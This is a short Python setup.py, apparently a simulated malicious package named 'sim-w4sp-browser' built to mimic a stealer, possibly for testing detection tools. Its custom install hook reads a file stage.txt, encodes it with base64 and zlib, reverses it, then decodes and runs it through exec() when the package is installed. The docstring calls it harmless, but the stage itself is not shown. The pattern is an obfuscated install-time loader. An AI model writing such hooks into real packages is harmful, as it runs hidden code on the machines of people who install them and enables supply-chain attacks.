# SPDX-License-Identifier: Apache-2.0
"""Harmless: the second stage (its source is stage.txt) uploads to a name that cannot exist."""

import base64
import zlib
from pathlib import Path

from setuptools import setup
from setuptools.command.install import install

_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))  # noqa: E731


class Install(install):
    def run(self):
        packed = base64.b64encode(zlib.compress(Path("stage.txt").read_bytes()))[::-1]
        exec(compile(_(packed), "<string>", "exec"), {})
        install.run(self)


setup(name="sim-w4sp-browser", version="1.0.0", py_modules=["sim_w4sp_browser"], cmdclass={"install": Install})
